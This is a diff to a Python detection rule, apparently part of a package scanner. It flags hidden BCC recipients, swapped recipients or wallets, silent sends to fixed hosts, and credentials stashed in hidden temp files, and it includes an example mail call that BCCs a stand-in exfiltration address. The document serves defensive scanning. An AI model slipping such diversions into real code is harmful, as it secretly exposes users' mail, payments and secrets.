@@ -2,27 +2,29 @@
 
 **What.**
 
-- A mail that the package sends has a fixed address among its recipients, copies or blind copies: `bcc: "..."` in
-  the options of a mail, a `Bcc` header, an address that is written in the code beside the recipients that the
-  caller gave, or is put into their list.
-- A recipient, address, account or wallet that the caller gave is replaced by one that is written in the code:
-  by a condition, in a function that "normalises" it, in the request that is built from it.
-- What a tool is given is sent, in a request whose answer nobody uses, to a fixed host that is no service the
-  package or its tools speak of.
-- What a tool is given, or a credential, is put into a fixed hidden file among the temporary ones, or into a list
-  that grows there.
+- A mail that the package sends has a fixed address among its recipients, copies or blind copies: `bcc:
+  "..."` in the options of a mail, a `Bcc` header, an address that is written in the code beside the
+  recipients that the caller gave, or is put into their list.
+- A recipient, address, account or wallet that the caller gave is replaced by one that is written in the
+  code: by a condition, in a function that "normalises" it, in the request that is built from it.
+- What a tool is given is sent, in a request whose answer nobody uses, to a fixed host that is no service
+  the package or its tools speak of.
+- What a tool is given, or a credential, is put into a fixed hidden file among the temporary ones, or into
+  a list that grows there.
 
-**Why.** Every mail that the assistant sends is read by somebody else, payments arrive at another's account, and
-the sender never sees it. This is how the first malicious MCP server that became known worked.
+**Why.** Every mail that the assistant sends is read by somebody else, payments arrive at another's
+account, and the sender never sees it. This is how the first malicious MCP server that became known
+worked.
 
 **Example.** `transport.sendMail({ to, subject, text, bcc: "copies@exfil.invalid" })`
 
-**Reported with less weight.** Requests to a host that the README names, to one that bears the package's name and is
-not told of, or that a setting of the user allows; recipients that are exchanged on trial (`dryRun`, `testnet`).
+**Reported with less weight.** Requests to a host that the README names, to one that bears the package's
+name and is not told of, or that a setting of the user allows; recipients that are exchanged on trial
+(`dryRun`, `testnet`).
 
-**Left alone.** A fixed sender; a fixed only recipient (a contact form); a default where none was given; copies
-that the caller of the tool asks for; addresses from the configuration; the service that the package is a client
-of; a tool that says that it sends; counts and lengths.
+**Left alone.** A fixed sender; a fixed only recipient (a contact form); a default where none was given;
+copies that the caller of the tool asks for; addresses from the configuration; the service that the
+package is a client of; a tool that says that it sends; counts and lengths.
 """
 
 from __future__ import annotations
@@ -80,12 +82,11 @@ def look(codebase: Codebase) -> Iterator[Evidence]:
                     severity=None if name in _HIDDEN else Severity.HIGH,
                 )
 
-
     yield from _diversions(program)
     for change, trace, place, hidden in hoarded(program):
         yield evidence_at(
             change.at,
-            why=f"{trace.what} ({trace.at.index.path}:{trace.at.line}) is kept in {place[:80]}, open to everybody",
+            why=f"{trace.what} ({trace.at.index.path}:{trace.at.line}) is kept in {place[:80]} for everybody",
             severity=Severity.HIGH if hidden else Severity.MEDIUM,
             confidence=Confidence.MEDIUM,
         )
@@ -112,7 +113,7 @@ def copied(codebase: Codebase, surface: Surface) -> Iterator[Evidence]:
         origin = f"{copy.trace.at.index.path}:{copy.trace.at.line}"
         yield evidence_at(
             copy.at,
-            why=f"{copy.trace.what} ({origin}) also goes to {', '.join(copy.hosts[:3])}, whose answer nobody uses",
+            why=f"{copy.trace.what} ({origin}) also goes to {', '.join(copy.hosts[:3])}; no answer is used",
             severity=severity,
             confidence=Confidence.MEDIUM,
         )
@@ -160,7 +161,7 @@ def _added(program: Program, name: str, state: State) -> str:
 
 
 def _joined(program: Program, state: State) -> str:
-    """Return the fixed address that is put into a list with others before it becomes the recipients *state*."""
+    """Return the fixed address that is put into a list with others, which then is the recipients *state*."""
 
     def source(each: State) -> str | None:
         around = each.node.parent
@@ -168,7 +169,12 @@ def _joined(program: Program, state: State) -> str:
         if not listed or each.node.type not in ("string", "template_string", "concatenated_string"):
             return None
         beyond = around.parent if around is not None else None
-        joins = beyond is not None and beyond.type in ("binary_operator", "argument_list", "arguments", "augmented_assignment")
+        joins = beyond is not None and beyond.type in (
+            "binary_operator",
+            "argument_list",
+            "arguments",
+            "augmented_assignment",
+        )
         text = program.shapes(each)[0]
         return text if joins and HOLE not in text and _ADDRESS.search(text) else None
 
